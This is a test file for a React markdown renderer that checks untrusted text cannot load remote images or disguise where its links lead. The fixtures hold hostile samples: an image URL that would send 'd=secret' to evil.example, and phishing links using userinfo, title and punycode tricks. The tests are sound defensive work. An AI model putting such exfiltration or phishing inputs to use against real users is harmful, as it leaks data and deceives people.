import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import RichMarkdown from "./rich-markdown.tsx";

const render = (text: string, isUntrusted = true) =>
  renderToStaticMarkup(createElement(RichMarkdown, { text, isUntrusted, isImageTrusted: () => true }));

test("images of an untrusted text load on request only, and name their host", () => {
  const html = render("![Invoice](https://evil.example/p.png?d=secret) <img src='https://evil.example/2.png'>");
  expect(html).not.toContain("<img");
  expect(html).not.toContain("d=secret");
  expect(html.match(/Show image from evil\.example/g)).toHaveLength(2);
});

test("images of a trusted text load if the page trusts them", () => {
  expect(render("![Plan](https://files.example/p.png)", false)).toContain("<img");
});

test.each([
  ["[bank.example](https://evil.example/)", "(evil.example)"],
  ["[Your bank](https://bank.example@evil.example/)", "(evil.example)"],
  ['[Your bank](https://evil.example "bank.example")', "(evil.example)"],
  ["[https://bank.example/](https://evil.example/)", "(evil.example)"],
  ["[bücher.example](https://xn--bcher-kva.example.evil.example/)", "(xn--bcher-kva.example.evil.example)"],
  ["[Write us](mailto:thief@evil.example?body=x)", "(thief@evil.example)"],
])("a link of an untrusted text shows where it leads: %s", (text, shown) => {
  const html = render(text);
  expect(html).toContain(shown);
  expect(html).toMatch(/rel="noopener noreferrer nofollow"/);
  expect(html).not.toMatch(/title="bank/);
});

test("a link that names its host already, and a link of a trusted text, get nothing added", () => {
  expect(render("[docs.example](https://docs.example/a)")).not.toContain("(docs.example)");
  expect(render("https://docs.example/a")).not.toContain("(docs.example)");
  expect(render("[Docs](https://docs.example/a)", false)).not.toContain("(docs.example)");
});
